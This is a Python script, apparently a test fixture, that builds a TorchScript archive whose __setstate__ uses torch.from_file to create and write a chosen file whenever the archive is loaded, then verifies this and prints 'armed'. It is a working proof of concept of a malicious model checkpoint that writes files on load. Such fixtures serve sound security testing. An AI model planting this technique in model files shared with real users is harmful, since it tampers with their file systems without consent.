"""Makes a TorchScript archive that writes a file when it is loaded, as an attacker's checkpoint would.

Usage: torchscript_side_effect.py ARCHIVE MARKER
Loading ARCHIVE (torch.jit.load, or LibTorch's InputArchive::load_from, which old Tokamak used) runs the
module's __setstate__, which creates MARKER through torch.from_file(shared=True) and writes into it. The script
proves it: it loads the archive once itself, checks MARKER appeared, deletes it, and prints "armed".
"""
import os
import sys
from typing import Tuple

import torch


class SideEffect(torch.nn.Module):
    def __init__(self, marker: str):
        super().__init__()
        self.marker = marker
        self.written = 0

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> Tuple[str, bool]:
        return (self.marker, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[str, bool]) -> None:
        self.marker = state[0]
        self.training = state[1]
        # A shared file mapping creates the file and writes through to it: code of the archive's choosing.
        # (The result is kept so that the compiler does not drop the call as dead code.)
        self.written = int(torch.from_file(self.marker, True, 8, dtype=torch.uint8).fill_(88).sum())


def main() -> None:
    archive, marker = sys.argv[1], sys.argv[2]
    torch.jit.script(SideEffect(marker)).save(archive)
    if os.path.exists(marker):
        os.remove(marker)
    torch.jit.load(archive)
    if not os.path.exists(marker):
        sys.exit("loading the archive did not write the marker: the fixture proves nothing")
    os.remove(marker)
    print("armed")


if __name__ == "__main__":
    main()
